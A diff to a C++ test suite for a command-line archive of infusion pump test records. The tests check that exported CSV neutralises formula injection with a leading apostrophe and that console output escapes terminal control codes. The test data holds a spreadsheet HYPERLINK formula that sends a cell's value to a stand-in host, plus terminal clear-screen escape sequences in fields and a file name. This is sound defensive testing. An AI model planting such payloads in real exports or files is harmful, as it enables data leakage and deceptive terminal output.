@@ -489,6 +489,16 @@ TEST_P(CliArchive, VerdictsAndTheDueList) {
     ran = run({"--archive", db, "testers", path("testers.csv")});
     ASSERT_EQ(ran.code, CliDone) << ran.err;
     EXPECT_EQ(ran.out, path("testers.csv") + ": tester list 1, 2 rows\n");
+    // Another archive's tester list goes only into one without its own, and
+    // the import's line says which.
+    const std::string lists = path("lists.db");
+    ASSERT_EQ(run({"--archive", lists, "testers", path("testers.csv")}).code, CliDone);
+    EXPECT_EQ(run({"--archive", path("fresh.db"), "import", lists}).out,
+              lists + ": 0 downloads, 0 new; 0 records, 0 new; 1 tester list, 1 new\n");
+    EXPECT_EQ(run({"--archive", db, "import", lists}).out,
+              lists +
+                  ": 0 downloads, 0 new; 0 records, 0 new; 1 tester list not imported: "
+                  "this archive has its own\n");
     ASSERT_EQ(run(download(db, "SN3", {record("iv 1", "12 Mar 2026", "100")})).code, CliDone);
     EXPECT_EQ(run({"--archive", db, "unknown", "--csv", "-"}).out,
               "device_id,tests,last_tested,tester_serial,looks_like\r\n"
@@ -521,10 +531,9 @@ TEST_P(CliArchive, VerdictsAndTheDueList) {
     EXPECT_NE(readFile(path("life.html")).find("<h3 id=\"unknown\">"), std::string::npos);
     // The same as a folder of pages: the index links each device's page,
     // and each page stands alone with a way back.
-    ASSERT_EQ(run({"--archive", db, "report", "--as-of", "2026-06-01", "--html-dir",
-                   path("pages")})
-                  .code,
-              CliDone);
+    ASSERT_EQ(
+        run({"--archive", db, "report", "--as-of", "2026-06-01", "--html-dir", path("pages")}).code,
+        CliDone);
     const std::string index = readFile(path("pages/index.html"));
     EXPECT_NE(words(index).find("Planned maintenance on time"), std::string::npos);
     for (int n = 1; n <= 4; ++n) {
@@ -555,8 +564,10 @@ TEST_P(CliArchive, VerdictsAndTheDueList) {
               "device_id,model,location,set_rate_ml_h,flow_low_pct,flow_high_pct,interval_days,"
               "asset_tag\r\n,P3,,100,-5,5,365,\r\n"
               "IV-1,P3,\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\",,,,,-T1\r\n"
-              "IV-2,P3," + wide + ",,,,,\r\nIV-3,P3,W,,,,,\r\nIV-4,P3,-W,,,,,\r\n"
-              "IV-5,P3,\"\rW\x1b[2J\",,,,,\r\nIV-9,P3,@W,,,,,\r\n");
+              "IV-2,P3," +
+                  wide +
+                  ",,,,,\r\nIV-3,P3,W,,,,,\r\nIV-4,P3,-W,,,,,\r\n"
+                  "IV-5,P3,\"\rW\x1b[2J\",,,,,\r\nIV-9,P3,@W,,,,,\r\n");
     ASSERT_EQ(run({"--archive", db, "assets", path("v4.csv")}).code, CliDone);
     writeFile(path("testers2.csv"),
               std::string("tester_serial,calibrated_on,calibration_due,certificate\r\n"
@@ -566,13 +577,14 @@ TEST_P(CliArchive, VerdictsAndTheDueList) {
     // text by a leading apostrophe; numbers (-5.0) and keys are as they are.
     const std::string results =
         run({"--archive", db, "history", "--since", "2026-03-14", "--results", "-"}).out;
-    for (const char* says : {"\"'=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\"",
-                             ",\"'=7*6\",", ",\"'-T1\",", "\"'@P\",", "\"'\tQ\",", ",PASS,95,100,-5,-5,5,"})
+    for (const char* says :
+         {"\"'=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\"", ",\"'=7*6\",", ",\"'-T1\",",
+          "\"'@P\",", "\"'\tQ\",", ",PASS,95,100,-5,-5,5,"})
         EXPECT_NE(results.find(says), std::string::npos) << says << "\n" << results;
     const std::string dueAll = run({"--archive", db, "due", "--all", "--csv", "-"}).out;
     const std::string assetCsv = run({"--archive", db, "assets", "--csv", "-"}).out;
-    for (const std::string& says : {",\"'" + wide + "\",", std::string(",\"'-W\","), std::string(",\"'\rW\x1b[2J\","),
-                                    std::string(",\"'@W\",")}) {
+    for (const std::string& says : {",\"'" + wide + "\",", std::string(",\"'-W\","),
+                                    std::string(",\"'\rW\x1b[2J\","), std::string(",\"'@W\",")}) {
         EXPECT_NE(dueAll.find(says), std::string::npos) << says << "\n" << dueAll;
         EXPECT_NE(assetCsv.find(says), std::string::npos) << says << "\n" << assetCsv;
     }
@@ -601,7 +613,8 @@ TEST_P(CliArchive, VerdictsAndTheDueList) {
                             run({"--archive", db, "import", path("\x1b[2J.csv")})}) {
         EXPECT_EQ(text.out.find_first_of("\x1b\r"), std::string::npos) << text.out;
         EXPECT_EQ(text.err.find_first_of("\x1b\r"), std::string::npos) << text.err;
-        EXPECT_NE((text.out + text.err).find("\\x1B[2J"), std::string::npos) << text.out << text.err;
+        EXPECT_NE((text.out + text.err).find("\\x1B[2J"), std::string::npos)
+            << text.out << text.err;
     }
     // The report: the long location wraps in its column of the PDF, the
     // failed pump's device ID and date whole beside it, and the web page
